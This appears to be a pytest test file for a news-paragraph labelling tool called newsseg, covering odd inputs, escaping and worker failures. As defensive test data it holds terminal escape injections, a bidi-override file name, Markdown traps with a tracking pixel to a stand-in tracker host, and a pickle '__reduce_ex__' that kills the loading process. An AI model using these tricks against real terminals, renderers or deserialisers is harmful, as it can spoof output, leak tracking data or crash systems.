INVISIBLE = "\u200b\u200b\u200c\u200d\u2060\ufeff\u00ad\u200e \u3000"


def test_lines_of_invisible_characters_are_blank(tmp_path, tiny_model_path):
    page = tmp_path / "page.txt"
    page.write_text(f"{INVISIBLE}\nCouncil approves new bridge\n\u200b\nBody\n", encoding="utf-8")
    result = run("predict", page, *model_args(tiny_model_path), "--format", "jsonl")
    assert result.exit_code == 0, result.output
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [(r["line"], r["text"]) for r in records] == [
        (2, "Council approves new bridge"),
        (4, "Body"),
    ]
    assert records[0]["label"] == "headline"
    labeled = tmp_path / "page.tsv"
    labeled.write_text(f"\u200b\u200b\nheadline\tTitle\nbody\t{INVISIBLE}\n", encoding="utf-8")
    assert dataset.read_input(labeled, labeled=True)["text"].tolist() == ["Title"]
    table = tmp_path / "table.csv"
    table.write_text(f"doc_id,text\nd,{INVISIBLE}\nd,Title\n", encoding="utf-8")
    assert dataset.read_input(table, labeled=False)["line"].tolist() == [3]
    assert dataset.split_dump("\u200b\nTitle\n") == ["Title"]


def test_folders_nested_1500_deep(tmp_path, tiny_model_path):
    levels = [tmp_path]
    try:
        for _ in range(1500):  # one at a time: mkdir(parents=True) recurses too
            levels.append(levels[-1] / "d")
            levels[-1].mkdir()
        deep = levels[-1]
        (deep / "page.txt").write_text(DUMP, encoding="utf-8")
        (tmp_path / "top.txt").write_text(DUMP, encoding="utf-8")
        found = dataset.expand_paths([tmp_path], (".txt",))
        assert found == [deep / "page.txt", tmp_path / "top.txt"]
        result = run("predict", tmp_path, *model_args(tiny_model_path))
        assert result.exit_code == 0, result.output
        assert len(result.stdout.split("\n\n")) == 2
    finally:  # bottom up: pytest's clean-up (shutil.rmtree) recurses, and would fail
        (levels[-1] / "page.txt").unlink(missing_ok=True)
        for folder in reversed(levels[1:]):
            folder.rmdir()


def test_broken_links_and_fifos_in_a_folder_are_bad_inputs(tmp_path, tiny_model_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a_good.txt").write_text(DUMP, encoding="utf-8")
    (folder / "b_broken.txt").symlink_to(tmp_path / "gone.txt")
    os.mkfifo(folder / "c_fifo.txt")
    (folder / "d_good.txt").symlink_to(folder / "a_good.txt")
    (folder / "e_folder.txt").symlink_to(tmp_path, target_is_directory=True)  # not followed
    out = tmp_path / "out"
    result = run("predict", folder, *model_args(tiny_model_path), "-o", out)
    assert result.exit_code == 1
    assert names(out) == ["a_good.tsv", "d_good.tsv"]
    errors = [line for line in result.stderr.splitlines() if line.startswith("newsseg: error:")]
    assert len(errors) == 2, result.stderr
    assert "b_broken.txt: broken symbolic link" in errors[0]
    assert "c_fifo.txt: not a regular file" in errors[1]
    # train and evaluate stop at the first one.
    (folder / "f.tsv").symlink_to(tmp_path / "gone.tsv")
    assert_one_line_error(run("train", folder, "-o", tmp_path / "m.npz"), "f.tsv: broken")
    result = run("predict", folder / "b_broken.txt", *model_args(tiny_model_path))
    assert_one_line_error(result, "b_broken.txt: broken symbolic link")


def test_a_pipe_named_on_the_command_line_is_read(tmp_path, tiny_model_path):
    # What the shell passes for <(cat page.txt): /dev/fd/N, a pipe.
    read_end, write_end = os.pipe()
    os.write(write_end, DUMP.encode("utf-8"))
    os.close(write_end)
    try:
        result = run("predict", f"/dev/fd/{read_end}", *model_args(tiny_model_path))
    finally:
        os.close(read_end)
    assert result.exit_code == 0, result.output
    assert len(result.stdout.strip().splitlines()) == 4


@pytest.mark.parametrize("kind", ["jsonl", "csv"])
def test_a_bad_line_in_a_large_table_keeps_the_documents_before_it(
    tmp_path, tiny_model_path, monkeypatch, kind
):
    monkeypatch.setattr(tasks, "STREAM_TABLE_BYTES", 0)  # read in chunks, as a large table is
    rows = [(doc_id, f"Paragraph {n} of {doc_id}") for doc_id in "abc" for n in range(3)]
    table = tmp_path / f"table.{kind}"
    if kind == "jsonl":
        lines = [json.dumps({"doc_id": d, "text": t}) for d, t in rows]
        lines += ["{not json", json.dumps({"doc_id": "d", "text": "After"})]
    else:
        lines = ["doc_id,text", *(f"{d},{t}" for d, t in rows), "c,one,field too many", "d,After"]
    table.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    result = run("predict", table, *model_args(tiny_model_path), "-o", out)
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"wrote 2 file(s) to {out}",
        result.stderr.splitlines()[1],
    ]
    bad_line = 10 if kind == "jsonl" else 11  # after the CSV's header
    assert result.stderr.splitlines()[1].startswith(f"newsseg: error: {table}:{bad_line}: ")
    # c may go on after the bad line: only the documents wholly before it are written.
    assert names(out) == ["a.tsv", "b.tsv"]
    assert (out / "b.tsv").read_text(encoding="utf-8").count("\n") == 3


def test_parquet_text_of_bytes_is_decoded(tmp_path, tiny_model_path):
    pa = pytest.importorskip("pyarrow", reason="Parquet needs pyarrow")
    import pyarrow.parquet as pq

    texts = [b"Council approves new bridge", "Café society".encode()]
    good = tmp_path / "good.parquet"
    pq.write_table(pa.table({"doc_id": [b"d", b"d"], "text": pa.array(texts, pa.binary())}), good)
    frame = dataset.read_input(good, labeled=False)
    assert frame["text"].tolist() == ["Council approves new bridge", "Café society"]
    assert frame["doc_id"].tolist() == ["d", "d"]
    latin = tmp_path / "latin.parquet"
    latin_texts = [b"Headline", "Café".encode("latin-1")]
    pq.write_table(
        pa.table({"doc_id": ["d", "d"], "text": pa.array(latin_texts, pa.binary())}), latin
    )
    result = run("predict", latin, *model_args(tiny_model_path))
    assert_one_line_error(result, "latin.parquet:2: column 'text': cannot decode byte 0xe9")
    result = run("predict", latin, *model_args(tiny_model_path), "--encoding", "latin-1")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[1].endswith("\tCafé")


@pytest.mark.parametrize("name", ["table.csv", "table.jsonl", "page.txt"])
def test_a_codec_that_gives_no_text_is_an_unknown_encoding(tmp_path, tiny_model_path, name):
    path = tmp_path / name
    path.write_text('{"doc_id": "d", "text": "Title"}\n', encoding="utf-8")
    result = run("predict", path, *model_args(tiny_model_path), "--encoding", "rot13")
    assert_one_line_error(result, f"{name}: unknown encoding 'rot13'")


def test_control_characters_in_file_names_are_escaped_in_errors(tmp_path, tiny_model_path):
    bad = tmp_path / "\x1b[31mred\u202eevil.txt"
    bad.write_bytes(b"Title\nCaf\xe9\n")
    message = assert_one_line_error(run("predict", bad, *model_args(tiny_model_path)), ":2:")
    assert "\x1b" not in message and "\u202e" not in message
    assert "\\x1b[31mred\\u202eevil.txt:2: cannot decode" in message


def test_control_characters_in_text_are_escaped_in_tsv(tmp_path, tiny_model_path):
    page = tmp_path / "page.txt"
    page.write_text("Title\nBody \x1b[2J\x1b]0;owned\x07 text\rmore\tand a tab\n", encoding="utf-8")
    result = run("predict", page, *model_args(tiny_model_path))
    assert result.exit_code == 0, result.output
    _, text = result.stdout.splitlines()[1].split("\t", 1)
    assert text == "Body \\x1b[2J\\x1b]0;owned\\x07 text\\rmore\tand a tab"
    result = run("predict", page, *model_args(tiny_model_path), "--format", "jsonl")
    assert json.loads(result.stdout.splitlines()[1])["text"].startswith("Body \x1b[2J")


MARKDOWN_TRAPS = [
    "![pixel](http://tracker.example/p.png?id=1) **bold** [link](http://evil.example)",
    "<img src=x> `code` _under_ www.evil.example me@evil.example | pipe",
]


def test_report_md_shows_paragraph_text_as_text(tmp_path, tiny_model_path):
    labeled = tmp_path / "page.tsv"
    labeled.write_text("".join(f"legal\t{text}\n" for text in MARKDOWN_TRAPS), encoding="utf-8")
    folder = tmp_path / "report"
    result = run("evaluate", labeled, *model_args(tiny_model_path), "--report", folder)
    assert result.exit_code == 0, result.output
    markdown = (folder / "report.md").read_text(encoding="utf-8")
    assert "tracker" in markdown  # the misclassified paragraphs are shown ...
    for trap in ["![pixel](", "**bold**", "[link](", "<img", "`code`", "_under_", "http://"]:
        assert trap not in markdown, trap  # ... but none of them renders as Markdown
    assert "www.evil" not in markdown and "me@evil" not in markdown  # no autolinks either
    assert "\\!\\[pixel\\]\\(http\\://tracker.example/p.png?id=1\\)" in markdown


@pytest.mark.parametrize(
    "changes",
    [
        {"cv": [1, 2], "ablation": "none"},
        {"training_data": "lots", "labels": 5, "saved": 3, "newsseg_version": ["0.4"]},
        {"training_data": {"label_counts": ["body"], "documents": "12"}},
        {"cv": {"folds": 5, "group_by": "site", "per_fold": {"macro_f1": 0.9}}},
        {"ablation": {"folds": 5, "group_by": "site", "variants": [{"variant": "x"}]}},
    ],
)
def test_inspect_a_model_whose_metadata_has_wrong_types(tmp_path, tiny_model_path, changes):
    metadata = model_file.read_metadata(tiny_model_path)
    metadata.update(changes)
    odd = tmp_path / "odd.npz"
    with_metadata(tiny_model_path, odd, metadata)
    result = run("inspect", odd, "--json", tmp_path / "info.json")
    assert result.exit_code == 0, result.output
    warnings = [line for line in result.stdout.splitlines() if line.startswith("warning")]
    assert len(warnings) == len(changes)
    for name in changes:
        assert any(f"'{name}'" in line for line in warnings), (name, warnings)
    info = json.loads((tmp_path / "info.json").read_text(encoding="utf-8"))
    assert len(info["metadata_problems"]) == len(changes)
    assert "strongest text features towards body" in result.stdout


def test_inspect_of_a_well_formed_model_has_no_warning(tiny_model_path):
    result = run("inspect")  # the shipped default model
    assert result.exit_code == 0, result.output
    assert "warning" not in result.stdout
    assert api.inspect_model(tiny_model_path)["metadata_problems"] == []


@pytest.mark.parametrize(
    ("address", "fragment"),
    [
        ("tls://127.0.0.1:9", "tls:// needs the client's certificates"),
        ("ucx://127.0.0.1:9", "ucx:// needs UCX support"),
        ("nope://127.0.0.1:9", "unknown address scheme 'nope'"),
    ],
)
def test_dask_schedulers_of_other_schemes_are_one_line(dump, tiny_model_path, address, fragment):
    pytest.importorskip("distributed", reason="needs newsseg[dask]")
    result = run("predict", dump, *model_args(tiny_model_path), "--dask-scheduler", address)
    assert_one_line_error(result, f"cannot reach the Dask scheduler at {address}: {fragment}")


def test_sigterm_during_a_write_leaves_no_temporary_file(
    dump, tmp_path, tiny_model_path, monkeypatch
):
    import signal

    caught = []  # without newsseg's own handler, this one would take the signal
    previous = signal.signal(signal.SIGTERM, lambda *_: caught.append("not newsseg"))
    real_replace = os.replace

    def terminated_while_writing(source, target):
        os.kill(os.getpid(), signal.SIGTERM)
        return real_replace(source, target)

    monkeypatch.setattr(os, "replace", terminated_while_writing)
    out = tmp_path / "out"
    try:
        result = run("predict", dump, *model_args(tiny_model_path), "-o", out)
        handler_after = signal.getsignal(signal.SIGTERM)
    finally:
        signal.signal(signal.SIGTERM, previous)
    assert caught == []
    assert result.exit_code == 130 and "Traceback" not in result.output  # as Ctrl-C ends it
    assert names(out) == []  # neither page.tsv nor .page.tsv.XXXX
    assert handler_after is not None and handler_after is not cli._interrupt  # restored


class DiesAfter:
    """An executor (see :class:`newsseg.predict.Executor`) whose worker dies on batch ``n``."""

    reads_files = True
    batch_bytes = 1  # one input a batch

    def __init__(self, n: int) -> None:
        self.n = n

    def map(self, work, tasks, model):
        for number, task in enumerate(tasks):
            if number == self.n:
                raise WorkerLostError("a test worker died")
            yield work(task, model)


@pytest.fixture()
def three_pages(tmp_path) -> list[Path]:
    pages = []
    for name in ("a", "b", "c"):
        pages.append(tmp_path / f"{name}.txt")
        pages[-1].write_text(DUMP, encoding="utf-8")
    return pages


def test_a_dying_worker_names_the_inputs_not_written(three_pages, tmp_path, tiny_model_path):
    out = tmp_path / "out"
    missing = tmp_path / "missing.txt"
    paths = [*three_pages, missing]
    labeler = load_model(tiny_model_path)[0]
    run_ = api.predict(paths, labeler, output_dir=out, executor=DiesAfter(1))
    assert names(out) == ["a.tsv"]  # written before, and whole
    assert (out / "a.tsv").read_text(encoding="utf-8").count("\n") == 4
    *bad, lost = [str(error) for error in run_.failed]
    assert bad == [f"{missing}: no such file or folder"]
    assert lost == f"a test worker died; not written: {three_pages[1]}, {three_pages[2]}"
    with pytest.raises(WorkerLostError, match=r"not written: .*b\.txt"):
        api.predict(
            paths, labeler, output_dir=tmp_path / "o2", executor=DiesAfter(1), fail_fast=True
        )


def test_a_dying_worker_names_a_table_written_in_part(tmp_path, tiny_model_path, monkeypatch):
    monkeypatch.setattr(tasks, "STREAM_TABLE_BYTES", 0)  # read here in chunks
    monkeypatch.setattr(dataset, "TABLE_CHUNK_ROWS", 2)
    table = tmp_path / "table.jsonl"
    rows = [{"doc_id": d, "text": f"Paragraph of {d}"} for d in "abcdef" for _ in range(2)]
    table.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    labeler = load_model(tiny_model_path)[0]
    out = tmp_path / "out"
    run_ = api.predict([table], labeler, output_dir=out, executor=DiesAfter(2))
    assert names(out) == ["a.tsv", "b.tsv"]
    assert str(run_.failed[-1]) == (
        f"a test worker died; not written: none; written in part (the documents before it): {table}"
    )


class KillsItsWorker(ParagraphLabeler):
    """A model whose copy kills the worker process that loads it, as the OOM killer would."""

    def __reduce_ex__(self, protocol):
        return (os._exit, (9,))


def test_a_killed_jobs_worker_is_one_line(three_pages, tmp_path, tiny_model_path, monkeypatch):
    fitted = load_model(tiny_model_path)[0]
    doomed = KillsItsWorker()
    doomed.__dict__.update(fitted.__dict__)
    monkeypatch.setattr(api, "load_model", lambda *args, **kwargs: doomed)
    out = tmp_path / "out"
    result = run("predict", *three_pages, "-o", out, "--jobs", "2")
    message = assert_one_line_error(result, "a --jobs worker process died", "not written: ")
    assert all(str(page) in message for page in three_pages)
    assert not out.exists() or names(out) == []


@pytest.mark.parametrize("lost", ["worker", "scheduler", "connection"])
def test_a_lost_dask_worker_is_a_lost_worker(tiny_model_path, lost):
    pytest.importorskip("distributed", reason="needs newsseg[dask]")
    from distributed import KilledWorker
    from distributed.client import FutureCancelledError
    from distributed.comm import CommClosedError

    from newsseg.predict.dask_executor import DaskExecutor

    worker = types.SimpleNamespace(address="tcp://10.0.0.1:4000")
    error, expected = {
        "worker": (KilledWorker("label_task-1", worker, 3), r"Dask workers died .*10\.0\.0\.1"),
        "scheduler": (FutureCancelledError("label_task-1", "scheduler-connection-lost"), "lost"),
        "connection": (CommClosedError("in <TCP>: Stream is closed"), "Stream is closed"),
    }[lost]

    class Future:
        def result(self):
            raise error

        def cancel(self):
            pass

    class Client:
        def scatter(self, *args, **kwargs):
            return "model"

        def scheduler_info(self):
            return {"workers": {"tcp://10.0.0.1:4000": {}}}

        def submit(self, *args, **kwargs):
            return Future()

    results = DaskExecutor(Client()).map(lambda task, model: [], iter([[(0, "a.txt")]]), None)
    with pytest.raises(WorkerLostError, match=expected):
        next(results)
